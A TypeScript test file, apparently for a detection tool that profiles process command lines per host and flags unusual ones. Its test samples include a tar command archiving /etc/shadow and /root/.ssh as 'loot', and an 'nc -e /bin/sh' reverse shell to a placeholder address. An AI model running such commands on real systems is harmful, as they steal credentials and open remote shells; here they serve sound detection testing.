import assert from 'node:assert/strict';
import { test } from 'node:test';
import { runProfilerConformance, event, T0, DAY, contextFor, fleetOf } from '../conformance.case.test.js';
import { createCommandLineProfiler } from './command-line.js';

const run = (host: string, time: number, args: string[]) =>
  event(host, time, { 'event.category': 'process', 'event.action': 'start', 'process.pid': 7, 'process.executable': `/usr/bin/${args[0]}`, 'process.args': args, 'process.command_line': args.join(' ') });

runProfilerConformance({
  name: 'command-line',
  create: createCommandLineProfiler,
  samples: {
    normal: (host, time, i) => [run(host, time, ['ls', '-la', `/srv/www/site-${i}`]), run(host, time + 1, ['tar', '-czf', `/backup/www-${i}.tar.gz`, '/srv/www'])],
    novel: (host, time) => [run(host, time, ['tar', '-czf', '/tmp/.x/loot.tgz', '/etc/shadow', '/root/.ssh'])],
  },
});

test('a program never run before is left to the parent-child profiler', () => {
  const profiler = createCommandLineProfiler();
  const fleet = fleetOf(['h']);
  for (let day = 0; day < 10; day++) profiler.observe(run('h', T0 + day * DAY, ['ls', '-la', '/srv']), contextFor('h', T0 + day * DAY, fleet));
  assert.equal(profiler.score(run('h', T0 + 11 * DAY, ['nc', '-e', '/bin/sh', '10.0.0.1', '4444']), contextFor('h', T0 + 11 * DAY, fleet)), undefined);
  const finding = profiler.score(run('h', T0 + 11 * DAY, ['ls', '-R', '/root']), contextFor('h', T0 + 11 * DAY, fleet));
  assert.ok(finding);
  assert.match(finding.explanation, /^`ls -R \/root` – ls never ran with this shape `ls -R <path:\/root>` on this host/);
});
